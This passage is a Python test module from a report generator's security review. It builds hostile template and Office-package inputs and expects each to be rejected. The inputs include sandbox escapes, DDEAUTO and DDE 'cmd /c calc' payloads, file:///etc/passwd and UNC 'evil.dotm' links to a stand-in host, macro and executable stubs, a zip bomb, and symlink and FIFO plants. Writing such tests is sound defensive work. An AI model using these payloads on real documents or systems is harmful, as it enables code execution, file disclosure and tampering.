"""More hostile inputs, one group per class of the security review (issue 7).

Run by `tests/pipeline/test_hostile.py` with the cases of `hostile_cases.py`: each case's exit code and
message are checked, and a failed build must leave the earlier outputs byte-identical.
"""

from __future__ import annotations

import html
import io
import json
import os
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

from docx import Document
from pptx import Presentation

from reportgen.office.ooxml import qn, word_paragraphs

from ..conftest import TEMPLATES, WAIC, briefing_paragraph, docx_text, pptx_slide_texts, seen
from .hostile_cases import (
    MINIMAL,
    Case,
    body,
    briefing_edit,
    deck_edit,
    edited,
    event_text,
    literal_in_documents,
    package_bytes,
    rezip,
    title,
)

# -- templates: what a template can reach -------------------------------------------------------------

SANDBOX = [
    Case(
        "deck-parse-raw-pickle",
        "template",
        deck_edit(
            title(
                "{{ figures['reach.online_viewers'].model"
                ".parse_raw('x', proto='pickle', allow_pickle=True) }}"
            )
        ),
        4,
        "not allowed in a template",
    ),
    Case(
        "deck-model-validate-json",
        "template",
        deck_edit(title("{{ event.model_validate_json('{}') }}")),
        4,
        "not allowed in a template",
    ),
    Case(
        "briefing-chart-tpl",
        "template",
        briefing_edit(body("{{ chart('projects').tpl }}")),
        4,
        "'ChartSlot' has no attribute 'tpl'",
    ),
    Case(
        "briefing-chart-tpl-save",
        "template",
        briefing_edit(body("{{ chart('projects').tpl.save('/tmp/reportgen-pwned.docx') }}")),
        4,
        "'ChartSlot' has no attribute 'tpl'",
    ),
    Case(
        "deck-function-globals",
        "template",
        deck_edit(title("{{ figure._function.__globals__ }}")),
        4,
        "slide 1, shape 'Event name'",
    ),
    Case(
        "deck-str-format-escape",
        "template",
        deck_edit(title("{{ '{0.model_dump}'.format(event) }}")),
        4,
        "'EventView' has no attribute 'model_dump'",
    ),
    Case(
        "briefing-safe-markup",
        "template",
        briefing_edit(body("{{ event.name|safe }}")),
        4,
        "printed literally",
    ),
    Case(
        "deck-autoescape-off",
        "template",
        deck_edit(title("{% autoescape false %}{{ event.name }}{% endautoescape %}")),
        4,
        "printed literally",
    ),
    Case(
        "range-too-big",
        "template",
        deck_edit(title("{% for i in range(10**6) %}{% endfor %}")),
        4,
        "({% for i in range(10**6) %}, {% endfor %}): not allowed in a template: Range",
    ),
    Case(
        "macro-calling-itself",
        "template",
        deck_edit(title("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}")),
        4,
        "not allowed in a template: maximum recursion depth exceeded",
    ),
    Case(
        "division-by-zero",
        "template",
        briefing_edit(body("{{ 1 / 0 }}")),
        4,
        "body, paragraph 1 ({{ 1 / 0 }}): division by zero",
    ),
    Case(
        "deck-classmethod-on-a-date",
        "template",
        deck_edit(title("{{ event.closing_date.fromtimestamp(0) }}")),
        4,
        "not allowed in a template",
    ),
    # The documents' words (`_()`): only %(name)s is replaced, a name not given is an error, and the
    # function's insides stay out of reach.
    Case(
        "deck-message-missing-name",
        "template",
        deck_edit(title('{{ _("%(who)s at a glance") }}')),
        4,
        "names %(who)s, which is not given",
    ),
    Case(
        "briefing-message-not-text",
        "template",
        briefing_edit(body("{{ _(figures) }}")),
        4,
        "_() translates text, not dict",
    ),
    Case(
        "deck-message-function-internals",
        "template",
        deck_edit(title("{{ _._function.__globals__ }}")),
        4,
        "slide 1, shape 'Event name'",
    ),
]

# -- templates: packages that reach outside ---------------------------------------------------------

REL = (
    '<Relationship Id="rIdX{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    '{kind}" Target="{target}"{mode}/>'
)


def add_relationship(part: str, kind: str, target: str, external: bool = True) -> Callable[[bytes], bytes]:
    rel = REL.format(n=kind, kind=kind, target=target, mode=' TargetMode="External"' if external else "")
    return rezip(
        edit=(part, lambda xml: xml.replace(b"</Relationships>", rel.encode() + b"</Relationships>"))
    )


def positions_not_numbers(data: bytes) -> bytes:
    """Every slide's shape positions made `abc`: python-pptx fails reading them."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if re.fullmatch(r"ppt/slides/slide\d+\.xml", info.filename):
                content = re.sub(rb'<a:off x="\d+"', b'<a:off x="abc"', content)
            dst.writestr(info, content)
    return out.getvalue()


def add_entry(name: str, data: bytes) -> Callable[[bytes], bytes]:
    return rezip(extra=lambda z: z.writestr(name, data))


def in_body(xml: str) -> Callable[[bytes], bytes]:
    """Insert raw WordprocessingML at the start of the body."""
    return rezip(
        edit=("word/document.xml", lambda doc: re.sub(rb"(<w:body>)", rb"\1" + xml.encode(), doc, count=1))
    )


def field_run(instruction: str, split: bool = False) -> str:
    halves = [instruction[:7], instruction[7:]] if split else [instruction]
    texts = "".join(f'<w:r><w:instrText xml:space="preserve">{h}</w:instrText></w:r>' for h in halves)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + texts
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def macro_main_type(xml: bytes) -> bytes:
    return xml.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )


def program_action(xml: bytes) -> bytes:
    return re.sub(
        rb'<p:cNvPr id="(\d+)" name="([^"]*)"/>',
        rb'<p:cNvPr id="\1" name="\2"><a:hlinkClick xmlns:r="http://schemas.openxmlformats.org/'
        rb'officeDocument/2006/relationships" r:id="" action="ppaction://program"/></p:cNvPr>',
        xml,
        count=1,
    )


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://192.0.2.1/x.png"/></svg>'
COMMENTS = (
    b'<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b'<w:comment w:id="0"><w:p><w:r><w:t>{{ event.name }}</w:t></w:r></w:p></w:comment></w:comments>'
)


def keeps_hyperlink(out: Path) -> None:
    with zipfile.ZipFile(out / "waic-2022-briefing.docx") as package:
        assert b"https://www.example.org/" in package.read("word/_rels/document.xml.rels")


OUTSIDE = [
    Case(
        "linked-picture",
        "template",
        package_bytes(
            "deck.pptx",
            add_relationship("ppt/slides/_rels/slide1.xml.rels", "image", "http://192.0.2.1/a.png"),
        ),
        4,
        "links to something outside the package (image",
    ),
    Case(
        "attached-template-unc",
        "template",
        package_bytes(
            "briefing.docx",
            add_relationship(
                "word/_rels/document.xml.rels",
                "attachedTemplate",
                "\\\\192.0.2.1\\share\\evil.dotm",
            ),
        ),
        4,
        "(attachedTemplate",
    ),
    Case(
        "linked-ole-object",
        "template",
        package_bytes(
            "deck.pptx",
            add_relationship("ppt/slides/_rels/slide1.xml.rels", "oleObject", "https://192.0.2.1/sheet.xlsx"),
        ),
        4,
        "(oleObject: 'https://192.0.2.1/sheet.xlsx')",
    ),
    Case(
        "frame",
        "template",
        package_bytes(
            "briefing.docx",
            add_relationship("word/_rels/document.xml.rels", "frame", "http://192.0.2.1/f.html"),
        ),
        4,
        "(frame: 'http://192.0.2.1/f.html')",
    ),
    Case(
        "file-url-hyperlink",
        "template",
        package_bytes(
            "briefing.docx",
            add_relationship("word/_rels/document.xml.rels", "hyperlink", "file:///etc/passwd"),
        ),
        4,
        "refers to a local file (file://)",
    ),
    Case(
        "internal-target-outside",
        "template",
        package_bytes(
            "deck.pptx",
            add_relationship(
                "ppt/slides/_rels/slide1.xml.rels", "image", "smb://192.0.2.1/x.png", external=False
            ),
        ),
        4,
        "points outside the package",
    ),
    Case(
        "web-hyperlink-is-kept",
        "template",
        package_bytes(
            "briefing.docx",
            add_relationship("word/_rels/document.xml.rels", "hyperlink", "https://www.example.org/"),
        ),
        0,
        "built WAIC 2022",
        check=keeps_hyperlink,
    ),
    Case(
        "includepicture-field",
        "template",
        package_bytes("briefing.docx", in_body(field_run('INCLUDEPICTURE "http://192.0.2.1/x.png"'))),
        4,
        "INCLUDEPICTURE field",
    ),
    Case(
        "field-split-over-runs",
        "template",
        package_bytes("briefing.docx", in_body(field_run('INCLUDETEXT "c:/secret.txt"', split=True))),
        4,
        "INCLUDETEXT field",
    ),
    Case(
        "ddeauto-field",
        "template",
        package_bytes(
            "briefing.docx",
            in_body(
                '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/c calc&quot;"/></w:p>'
            ),
        ),
        4,
        "DDEAUTO field",
    ),
    Case(
        "vba-project",
        "template",
        package_bytes("briefing.docx", add_entry("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")),
        4,
        "vbaProject.bin",
    ),
    Case(
        "macro-enabled-main-part",
        "template",
        package_bytes("briefing.docx", rezip(edit=("[Content_Types].xml", macro_main_type))),
        4,
        "declares active content",
    ),
    Case(
        "activex-control",
        "template",
        package_bytes("deck.pptx", add_entry("ppt/activeX/activeX1.xml", b"<ax:ocx xmlns:ax='x'/>")),
        4,
        "activeX/activeX1.xml",
    ),
    Case(
        "program-action",
        "template",
        package_bytes("deck.pptx", rezip(edit=("ppt/slides/slide1.xml", program_action))),
        4,
        "runs a program or macro",
    ),
    Case(
        "svg-loads-a-picture",
        "template",
        package_bytes("deck.pptx", add_entry("ppt/media/image99.svg", SVG)),
        4,
        "SVG picture that loads",
    ),
    Case(
        "svg-disguised-as-a-png",
        "template",
        package_bytes("deck.pptx", add_entry("ppt/media/image98.png", SVG)),
        4,
        "ppt/media/image98.png (SVG) is an SVG picture that loads",
    ),
    Case(
        "alt-chunk-import",
        "template",
        package_bytes(
            "briefing.docx",
            add_relationship("word/_rels/document.xml.rels", "aFChunk", "chunk.mht", external=False),
        ),
        4,
        "relates active or imported content (aFChunk)",
    ),
    Case(
        "fetching-field-assembled-by-a-tag",
        "template",
        package_bytes(
            "briefing.docx", in_body(field_run("{{ 'INCLUDE' ~ 'PICTURE' }} \"http://192.0.2.1/x.png\""))
        ),
        4,
        "INCLUDEPICTURE field",
    ),
    Case(
        "damaged-part-gets-the-save-again-hint",
        "template",
        package_bytes("briefing.docx", rezip(edit=("word/styles.xml", lambda xml: xml[: len(xml) // 2]))),
        4,
        "hint: open it in the Office program and save it again as 'Word Document (.docx)'",
    ),
    Case(
        "tags-in-an-unrendered-part",
        "template",
        package_bytes("briefing.docx", add_entry("word/comments.xml", COMMENTS)),
        4,
        "the part word/comments.xml holds tags",
    ),
    Case(  # python-pptx fails on it while the deck renders: the template's fault, not a bug (exit 1)
        "deck-shape-position-not-a-number",
        "template",
        package_bytes("deck.pptx", positions_not_numbers),
        4,
        "the template could not be rendered (ValueError: invalid literal for int() with base 10: 'abc')",
    ),
]

# -- templates: packages inside packages (a chart's workbook, embedded objects) --------------------------

CHART_BOOK = "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx"
XL_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def deck_with_chart(data: bytes) -> bytes:
    """The default deck with a native chart of its own on the first slide (its data: a workbook)."""
    from pptx.chart.data import CategoryChartData
    from pptx.enum.chart import XL_CHART_TYPE
    from pptx.util import Inches

    prs = Presentation(io.BytesIO(data))
    chart_data = CategoryChartData()
    chart_data.categories = ["a", "b"]
    chart_data.add_series("s", (1, 2))
    prs.slides[0].shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, 0, 0, Inches(3), Inches(2), chart_data)
    out = io.BytesIO()
    prs.save(out)
    return out.getvalue()


def chart_book(edit: Callable[[bytes], bytes]) -> Callable[[Path], list[str]]:
    """The deck with a chart whose embedded workbook is changed by `edit` (a package transform)."""
    return package_bytes("deck.pptx", lambda data: rezip(edit=(CHART_BOOK, edit))(deck_with_chart(data)))


def with_xlsx_default(xml: bytes) -> bytes:
    xlsx = f'<Default Extension="xlsx" ContentType="{XL_TYPE}.sheet"/>'.encode()
    return xml.replace(b"</Types>", xlsx + b"</Types>")


def nested(levels: int) -> bytes:
    """A workbook inside a document inside a document ... `levels` packages deep."""
    package = deck_with_chart((TEMPLATES / "deck.pptx").read_bytes())
    with zipfile.ZipFile(io.BytesIO(package)) as deck:
        package = deck.read(CHART_BOOK)
    for _ in range(levels - 1):
        package = rezip(
            extra=lambda z, inner=package: z.writestr("word/embeddings/Microsoft_Excel_Sheet1.xlsx", inner),
            edit=("[Content_Types].xml", with_xlsx_default),
        )((TEMPLATES / "briefing.docx").read_bytes())
    return package


EXTERNAL_LINK = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
)
SHEET_FILE_LINK = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId9" TargetMode="External" Target="file:///etc/passwd" Type="http://schemas.'
    b'openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
)


def with_type(part: str, content_type: str) -> Callable[[bytes], bytes]:
    override = f'<Override PartName="/{part}" ContentType="{content_type}"/>'.encode()
    return lambda xml: xml.replace(b"</Types>", override + b"</Types>")


def dde_formula(sheet: bytes) -> bytes:
    return re.sub(rb"<v>1</v>", rb"<f>cmd|' /c calc'!A0</f><v>1</v>", sheet, count=1)


EMBEDDED = [
    Case(
        "chart-workbook-with-macros",
        "template",
        chart_book(add_entry("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1macro")),
        4,
        f"templates/deck.pptx: {CHART_BOOK}: the package holds xl/vbaProject.bin, which is a macro",
    ),
    Case(
        "chart-workbook-links-a-local-file",
        "template",
        chart_book(add_entry("xl/worksheets/_rels/sheet1.xml.rels", SHEET_FILE_LINK)),
        4,
        f"{CHART_BOOK}: the part xl/worksheets/_rels/sheet1.xml.rels refers to a local file (file://)",
    ),
    Case(
        "chart-workbook-external-link-part",
        "template",
        chart_book(
            lambda book: rezip(
                extra=lambda z: z.writestr("xl/externalLinks/externalLink1.xml", EXTERNAL_LINK),
                edit=(
                    "[Content_Types].xml",
                    with_type("xl/externalLinks/externalLink1.xml", f"{XL_TYPE}.externalLink+xml"),
                ),
            )(book)
        ),
        4,
        f"{CHART_BOOK}: the part [Content_Types].xml declares active content ({XL_TYPE}.externalLink+xml)",
    ),
    Case(
        "chart-workbook-dde-formula",
        "template",
        chart_book(rezip(edit=("xl/worksheets/sheet1.xml", dde_formula))),
        4,
        f"{CHART_BOOK}: the part xl/worksheets/sheet1.xml has a formula (\"cmd|' /c calc'!A0\")",
    ),
    Case(
        "chart-workbook-doctype",
        "template",
        chart_book(
            rezip(
                edit=(
                    "xl/workbook.xml",
                    lambda xml: b'<!DOCTYPE x [<!ENTITY e "e">]>' + xml.split(b"?>", 1)[1],
                )
            )
        ),
        4,
        f"{CHART_BOOK}: the part xl/workbook.xml declares a DOCTYPE or entities",
    ),
    Case(
        "chart-workbook-part-without-type",
        "template",
        chart_book(add_entry("xl/extra.dat", b"x")),
        4,
        f"{CHART_BOOK}: the part xl/extra.dat has no content type in [Content_Types].xml",
    ),
    Case(
        "chart-workbook-is-a-zip-bomb",
        "template",
        chart_book(
            lambda _book: rezip(extra=lambda z: z.writestr("xl/media/zeros.bin", b"\0" * 2**24))(_book)
        ),
        4,
        f"{CHART_BOOK}: the entry 'xl/media/zeros.bin' inflates",
    ),
    Case(
        "ole-object-under-another-name",
        "template",
        package_bytes(
            "deck.pptx",
            add_entry("ppt/embeddings/Microsoft_Word_97.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1x"),
        ),
        4,
        "the package holds ppt/embeddings/Microsoft_Word_97.doc, an OLE object, which cannot be checked",
    ),
    Case(
        "program-embedded",
        "template",
        package_bytes("briefing.docx", add_entry("word/embeddings/setup.exe", b"MZ\x90\0program")),
        4,
        "the package holds word/embeddings/setup.exe, which is not an .xlsx, .docx or .pptx file",
    ),
    Case(
        "packages-nested-four-deep",
        "template",
        package_bytes(
            "briefing.docx",
            lambda data: add_entry("word/embeddings/Microsoft_Word_Document1.docx", nested(3))(data),
        ),
        4,
        "packages are nested more than 3 deep",
    ),
    Case(
        "macro-enabled-workbook-embedded",
        "template",
        chart_book(
            rezip(
                edit=(
                    "[Content_Types].xml",
                    lambda xml: xml.replace(
                        f"{XL_TYPE}.sheet.main+xml".encode(),
                        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                    ),
                )
            )
        ),
        4,
        f"{CHART_BOOK}: the part [Content_Types].xml declares active content",
    ),
    Case(
        "chart-of-its-own-is-kept",
        "template",
        chart_book(lambda book: book),
        0,
        "built WAIC 2022",
    ),
]

# -- templates: every part rendered or refused ------------------------------------------------------


def layout_tag(text: str) -> Callable[[Presentation], None]:
    def edit(prs: Presentation) -> None:
        next(iter(prs.slide_layouts[0].placeholders)).text_frame.text = text

    return edit


def master_tag(text: str) -> Callable[[Presentation], None]:
    def edit(prs: Presentation) -> None:
        next(iter(prs.slide_master.placeholders)).text_frame.text = text

    return edit


def group_tag(text: str) -> Callable[[Presentation], None]:
    def edit(prs: Presentation) -> None:
        group = prs.slides[0].shapes.add_group_shape()
        group.shapes.add_textbox(0, 0, 914400, 914400).text_frame.text = text

    return edit


def layout_rendered(out: Path) -> None:
    with zipfile.ZipFile(out / "waic-2022-deck.pptx") as package:
        layouts = b"".join(package.read(n) for n in package.namelist() if "slideLayouts/slideLayout" in n)
    assert b"Layout footer: WAIC 2022" in layouts
    assert b"{{" not in layouts


def group_rendered(out: Path) -> None:
    with zipfile.ZipFile(out / "waic-2022-deck.pptx") as package:
        slides = b"".join(package.read(n) for n in package.namelist() if n.startswith("ppt/slides/slide"))
    assert b"Grouped: Shanghai" in slides


PARTS = [
    Case(
        "tag-in-a-layout",
        "template",
        deck_edit(layout_tag("Layout footer: {{ event.short_name }}")),
        0,
        "built WAIC 2022",
        check=layout_rendered,
    ),
    Case(
        "bad-tag-in-the-master",
        "template",
        deck_edit(master_tag("{{ nowhere.at_all }}")),
        4,
        "slide master 1, shape",
    ),
    Case(
        "picture-slot-in-the-master",
        "template",
        deck_edit(master_tag("{{ chart('projects') }}")),
        4,
        "not in a table, a group, speaker notes or a master",
    ),
    Case(
        "picture-tag-in-the-notes",
        "template",
        deck_edit(
            lambda prs: setattr(prs.slides[0].notes_slide.notes_text_frame, "text", "{{ chart('projects') }}")
        ),
        4,
        "not in a table, a group, speaker notes or a master",
    ),
    Case(
        "picture-tag-in-a-group",
        "template",
        deck_edit(group_tag("{{ chart('projects') }}")),
        4,
        "a picture tag works only alone in a shape of its own",
    ),
    Case(
        "picture-tag-in-the-properties",
        "template",
        deck_edit(lambda prs: setattr(prs.core_properties, "title", "{{ chart('projects') }}")),
        4,
        "a picture cannot go in a property",
    ),
    Case(
        "tag-in-a-group",
        "template",
        deck_edit(group_tag("Grouped: {{ event.city }}")),
        0,
        "built WAIC 2022",
        check=group_rendered,
    ),
]

# -- data: charts agree with validation, exact numbers, names -------------------------------------------

_CHART_FIGURES = """\
      exhibitors:
        label: Exhibitors
        value: 3.3
        unit: exhibitors
        breakdown:
          local: {label: Local, value: 1.1}
          foreign: {label: Foreign, value: 2.2}
      budget:
        label: Budget
        value: 999999999999999999
        currency: EUR
      zero:
        label: Cancelled sessions
        value: 0
"""
CHARTED = (
    MINIMAL.replace("    lists:\n", _CHART_FIGURES + "    lists:\n", 1)
    + "charts:\n  chart_a:\n    title: A chart\n"
)


def chart(spec: str, figures: str = "") -> Callable[[Path], list[str]]:
    """The charted event with one chart of `spec` (YAML lines under the chart)."""
    text = CHARTED.replace("    title: A chart\n", "    title: A chart\n" + spec)
    return event_text(text.replace("      zero:\n", figures + "      zero:\n") if figures else text)


def exact_numbers(out: Path) -> None:
    text = docx_text(out / "te-2025-briefing.docx")
    assert "3.3" in text and "1.1" in text and "2.2" in text
    assert "999,999,999,999,999,999" in text, "formatting must be exact up to the largest value"


def literal_tags(out: Path) -> None:
    text = docx_text(out / "te-2025-briefing.docx")
    deck = "\n".join(pptx_slide_texts(out / "te-2025-deck.pptx"))
    for needle in ("{{ event.name }}", "{% if x %}", "{#c#}"):
        assert needle in text and needle in deck, needle


LONG_NAME = "The Very Long International Conference " * 9  # 351 characters


def long_name(out: Path) -> None:
    # printed whole in the title, its last words tied (office/word_titles.py); the first sentence
    # says the short name where the title shows a long one (names18)
    assert LONG_NAME.strip() in docx_text(out / "te-2025-briefing.docx").replace("\u00a0", " ")
    prs = Presentation(str(out / "te-2025-deck.pptx"))
    assert len(prs.core_properties.title) <= 255


def two_events_one_slug(tmp: Path) -> list[str]:
    first, second = tmp / "first.yaml", tmp / "second.yaml"
    first.write_text(MINIMAL, encoding="utf-8")
    second.write_text(MINIMAL.replace("Lyon", "Nice"), encoding="utf-8")
    return [str(first), str(second)]


#: Labels that xlsxwriter's `write()` would turn into formulas (DDE among them) and links.
FORMULA_LABELS = (
    "=calc|x!A0",
    "=HYPERLINK(A1)+cmd|x!A0",
    "external:C:/x.xlsx",
    "http://192.0.2.1/x",
    "{=1+1}",
)


def workbook_cells(xlsx: bytes) -> tuple[list[str], list[bytes], list[bytes]]:
    """A chart workbook's shared strings, its sheet's cells and every relationship part's bytes."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        strings = re.findall(rb"<t[^>]*>([^<]*)</t>", book.read("xl/sharedStrings.xml"))
        sheet = book.read("xl/worksheets/sheet1.xml")
        rels = [book.read(n) for n in book.namelist() if n.endswith(".rels")]
    cells = re.findall(rb"<c [^>]*?(?:/>|>.*?</c>)", sheet)
    return [html.unescape(s.decode()) for s in strings], cells, rels


def literal_workbooks(out: Path) -> None:
    """Every chart's workbook holds the labels as text and the values as numbers: no formula, no link."""
    with zipfile.ZipFile(out / "te-2025-deck.pptx") as deck:
        books = [deck.read(n) for n in deck.namelist() if n.startswith("ppt/embeddings/")]
    assert len(books) == 2
    found: set[str] = set()
    for xlsx in books:
        strings, cells, rels = workbook_cells(xlsx)
        assert not any(b"<f>" in c or b"<f " in c for c in cells), cells
        assert not any(b"hyperlink" in r or b"External" in r for r in rels), rels
        numbers = [c for c in cells if b' t="' not in c]
        assert numbers and all(re.search(rb"<v>-?[0-9.]+</v>", c) for c in numbers), numbers
        found.update(strings)
    assert set(FORMULA_LABELS) | {"=SUM(A1:A9)", "=1+1 part", "mailto:x@example.org"} <= found, found


DATA = [
    Case(
        "chart-workbook-holds-labels-literally",
        "data",
        event_text(
            MINIMAL.replace(
                "    lists:\n",
                "".join(
                    f"      f{n}:\n        label: '{label}'\n        value: 3\n"
                    "        breakdown:\n"
                    "          one: {label: '=1+1 part', value: 1}\n"
                    "          two: {label: 'mailto:x@example.org', value: 2}\n"
                    for n, label in enumerate(FORMULA_LABELS)
                )
                + "    lists:\n",
                1,
            )
            + "charts:\n  formulas:\n    title: '=SUM(A1:A9)'\n    kind: bar\n    figures: ["
            + ", ".join(f"reach.f{n}" for n in range(len(FORMULA_LABELS)))
            + "]\n  grouped:\n    title: Parts\n    kind: grouped\n    figures: [reach.f0, reach.f1]\n"
        ),
        0,
        "built TE 2025",
        check=literal_workbooks,
    ),
    Case(
        "grouped-without-breakdowns",
        "data",
        chart("    kind: grouped\n    figures: [reach.online_viewers, reach.zero]\n"),
        3,
        "draws the breakdown of 'reach.online_viewers', which has none",
    ),
    Case(
        "zero-on-a-log-scale",
        "data",
        chart("    kind: hbar\n    log_scale: true\n    figures: [reach.online_viewers, reach.zero]\n"),
        3,
        "cannot show 0",
    ),
    Case(
        "all-zero-donut",
        "data",
        chart(
            "    kind: donut\n    figures: [reach.zero, reach.zero2]\n",
            "      zero2:\n        label: Also nothing\n        value: 0\n",
        ),
        3,
        "all 0",
    ),
    Case(
        "chart-order-not-an-order",
        "data",
        chart("    kind: bar\n    order: sideways\n    figures: [reach.online_viewers]\n"),
        3,
        "charts.chart_a.order: expected 'auto', 'value' or 'as_given', got 'sideways' (auto: by value "
        "unless the categories are dates, times, ranges or numbered; as_given: the data's order)",
    ),
    Case(
        "chart-mixing-money-and-counts",
        "data",
        chart("    kind: bar\n    figures: [reach.budget, reach.online_viewers]\n"),
        3,
        "mixes amounts in EUR and counts",
    ),
    Case(
        "chart-mixing-measures-and-counts",
        "data",
        chart(
            "    kind: bar\n    figures: [reach.area, reach.online_viewers]\n",
            "      area:\n        label: Area\n        value: 50000\n        unit: m²\n",
        ),
        3,
        "mixes counts and figures in m²",
    ),
    Case(
        "chart-with-too-many-bars",
        "data",
        chart("    kind: bar\n    figures: [" + ", ".join(["reach.online_viewers"] * 31) + "]\n"),
        3,
        "at most 30",
    ),
    Case(
        "chart-label-too-long",
        "data",
        chart(
            "    kind: bar\n    figures: [reach.wordy, reach.online_viewers]\n",
            "      wordy:\n        label: " + "word " * 40 + "\n        value: 5\n",
        ),
        3,
        "chart labels are at most 100",
    ),
    Case(
        "exact-decimals-and-the-largest-value",
        "data",
        event_text(CHARTED.replace("charts:\n  chart_a:\n    title: A chart\n", "")),
        0,
        "built TE 2025",
        check=exact_numbers,
    ),
    Case(
        "tag-syntax-in-reader-text",
        "data",
        event_text(
            MINIMAL.replace(
                "  name: Test Expo 2025", "  name: 'Expo {{ event.name }} {% if x %} {#c#}'"
            ).replace("  theme: Open doors", "  theme: '{{ event.name }} {% if x %} {#c#}'")
        ),
        0,
        "built TE 2025",
        check=literal_tags,
    ),
    Case(
        "a-351-character-name",
        "data",
        event_text(MINIMAL.replace("  name: Test Expo 2025", f"  name: {LONG_NAME.strip()}")),
        0,
        "built TE 2025",
        check=long_name,
    ),
    Case(
        "huge-value-is-quoted-in-a-slice",
        "data",
        event_text(MINIMAL.replace("value: 1000", "value: " + "x" * 100_000)),
        3,
        "expected a number, got 'xxxx",
    ),
    Case(
        "ten-million-decimal-places",
        "data",
        event_text(MINIMAL.replace("value: 1000", "value: 1e-10000000")),
        3,
        "1E-10000000 is out of range: numbers run from 10^-12 to 10^18",
    ),
    Case(
        "thirteen-decimal-places",
        "data",
        event_text(MINIMAL.replace("value: 1000", "value: 0.1234567890123")),
        3,
        "has more than 12 decimal places; round it",
    ),
    Case("two-events-one-slug", "data", two_events_one_slug, 3, "would both write te-2025-briefing.docx"),
]

# -- environment: links, special files, the cache --------------------------------------------------------


def plant(name: str, kind: str) -> Callable[[Path], list[str]]:
    """A link named `name` in the output folder, pointing at a file or folder outside it."""

    def make(tmp: Path) -> list[str]:
        victim = tmp / "victim"
        if kind == "dir":
            victim.mkdir()
        else:
            victim.write_bytes(b"precious")
        target = tmp / "out" / name
        if os.path.lexists(target):
            if target.is_dir() and not target.is_symlink():
                import shutil

                shutil.rmtree(target)
            else:
                target.unlink()
        target.symlink_to(victim)
        return [str(WAIC)]

    return make


def special_event(kind: str) -> Callable[[Path], list[str]]:
    def make(tmp: Path) -> list[str]:
        path = tmp / "event.yaml"
        if kind == "fifo":
            os.mkfifo(path)
        elif kind == "dir":
            path.mkdir()
        elif kind == "device":
            return ["/dev/zero"]
        elif kind == "dangling":
            path.symlink_to(tmp / "nowhere.yaml")
        return [str(path)]

    return make


def special_template(kind: str) -> Callable[[Path], list[str]]:
    def make(tmp: Path) -> list[str]:
        folder = tmp / "templates"
        folder.mkdir(exist_ok=True)
        path = folder / "deck.pptx"
        if kind == "fifo":
            os.mkfifo(path)
        elif kind == "dangling":
            path.symlink_to(tmp / "nowhere.pptx")
        elif kind == "dir":
            path.mkdir()
        return [str(WAIC), "--templates", str(folder)]

    return make


def dangling_project(tmp: Path) -> list[str]:
    (tmp / "reportgen.yaml").symlink_to(tmp / "nowhere.yaml")
    return [str(WAIC), "--config", str(tmp / "reportgen.yaml")]


def poisoned_cache(tmp: Path) -> list[str]:
    cache = tmp / "out" / ".reportgen-cache"
    for entry in cache.glob("*.png"):
        entry.write_bytes(b"\x89PNG\r\n\x1a\nnot really")
    return [str(WAIC), "--templates", str(WAIC.parents[1] / "templates")]


def event_logo(kind: str) -> Callable[[Path], list[str]]:
    """An event whose logo.png is a link to a picture elsewhere (as a tar or zip unpacks it), or a
    special file: read through the link, the picture would land in the deck byte for byte."""

    def make(tmp: Path) -> list[str]:
        from PIL import Image

        folder = tmp / "event"
        folder.mkdir()
        event = folder / "event.yaml"
        event.write_text(
            MINIMAL.replace("  city: Lyon\n", "  city: Lyon\n  logo: logo.png\n"), encoding="utf-8"
        )
        if kind == "link":
            Image.new("RGB", (40, 10)).save(tmp / "private.png")
            (folder / "logo.png").symlink_to(tmp / "private.png")
        elif kind == "fifo":
            os.mkfifo(folder / "logo.png")
        return [str(event)]

    return make


def stamp_fifo(tmp: Path) -> list[str]:
    """The up-to-date stamp is a FIFO: opening it to read would wait for a writer for ever."""
    os.mkfifo(tmp / "out" / ".reportgen-stamp.json")
    return [str(WAIC), "--templates", str(WAIC.parents[1] / "templates")]


STAGED = ".reportgen-staging-0123456789abcdef"


def killed_build(journal: str, owner: int | None = None) -> Callable[[Path], list[str]]:
    """A staging folder a killed build seems to have left, with its journal: a FIFO ("fifo"),
    nested too deep for a parser, or a journal vouching for a file someone else staged."""

    def make(tmp: Path) -> list[str]:
        area = tmp / "out" / STAGED
        area.mkdir(mode=0o700)
        if journal == "fifo":
            os.mkfifo(area / "journal.json")
        elif journal == "deep":
            (area / "journal.json").write_text("[" * 100_000 + "]" * 100_000)
        else:
            (area / "evil.pdf").write_bytes(b"%PDF-1.4 planted")
            (area / "journal.json").write_text('{"state": "committing", "files": ["evil.pdf"]}')
        if owner is not None:
            for path in (area, *area.iterdir()):
                os.chown(path, owner, owner)
        return [str(WAIC), "--templates", str(WAIC.parents[1] / "templates")]

    return make


def nothing_planted(out: Path) -> None:
    assert not (out / "evil.pdf").exists()


def deep_cache_record(tmp: Path) -> list[str]:
    for record in (tmp / "out" / ".reportgen-cache").glob("*.json"):
